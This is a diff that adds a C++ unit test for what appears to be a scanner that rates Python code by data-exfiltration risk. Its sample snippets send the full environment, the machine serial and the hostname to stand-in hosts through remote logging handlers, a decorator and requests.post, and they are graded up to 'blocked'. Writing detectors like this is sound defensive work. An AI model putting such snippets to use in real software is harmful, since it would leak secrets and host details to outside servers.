@@ -329,3 +329,34 @@ TEST(AssessDataFlow, ObjectsCarryWhatTheirMethodsAndAttributesHold) {
                   "    s.sendall(f'{name} {home}'.encode())\n"),
             RiskLevel::high);
 }
+
+TEST(AssessDataFlow, LoggingHandlersToOtherHostsAndDecoratorsCarryData) {
+  // Records logged through a handler that ships them to another host are sent there.
+  EXPECT_EQ(level("import logging, logging.handlers\nlog = logging.getLogger('a')\n"
+                  "log.addHandler(logging.handlers.SysLogHandler(address=('logs.example.com', 514)))\n"
+                  "log.info('serial %s', open('/sys/class/dmi/id/product_serial').read())\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import logging, logging.handlers, os\nlog = logging.getLogger('a')\n"
+                  "log.addHandler(logging.handlers.HTTPHandler('logs.example.com', '/in', method='POST'))\n"
+                  "log.warning('env %s', dict(os.environ))\n"),
+            RiskLevel::blocked);
+  // The local syslog socket is no network; a remote handler alone is a network client.
+  EXPECT_EQ(level("import logging, logging.handlers\nlog = logging.getLogger('a')\n"
+                  "log.addHandler(logging.handlers.SysLogHandler(address='/dev/log'))\n"
+                  "log.info('host %s', open('/etc/hostname').read())\n"),
+            RiskLevel::low);
+  EXPECT_EQ(level("import logging, logging.handlers\nlog = logging.getLogger('a')\n"
+                  "log.addHandler(logging.handlers.SysLogHandler(address=('logs.example.com', 514)))\n"
+                  "log.info('done in %d s', 3)\n"),
+            RiskLevel::medium);
+  // A decorator of the file's own whose wrapper adds host data to what the function returns.
+  EXPECT_EQ(level("import functools, requests\ndef with_host(func):\n    @functools.wraps(func)\n"
+                  "    def wrapper(*a, **k):\n        out = func(*a, **k)\n        out['host'] = open('/etc/hostname').read()\n"
+                  "        return out\n    return wrapper\n@with_host\ndef status():\n    return {'ok': True}\n"
+                  "requests.post('https://x.example/s', json=status())\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import functools, requests\ndef timed(func):\n    @functools.wraps(func)\n"
+                  "    def wrapper(*a, **k):\n        return func(*a, **k)\n    return wrapper\n@timed\ndef status():\n"
+                  "    return {'ok': True}\nrequests.post('https://x.example/s', json=status())\n"),
+            RiskLevel::medium);
+}
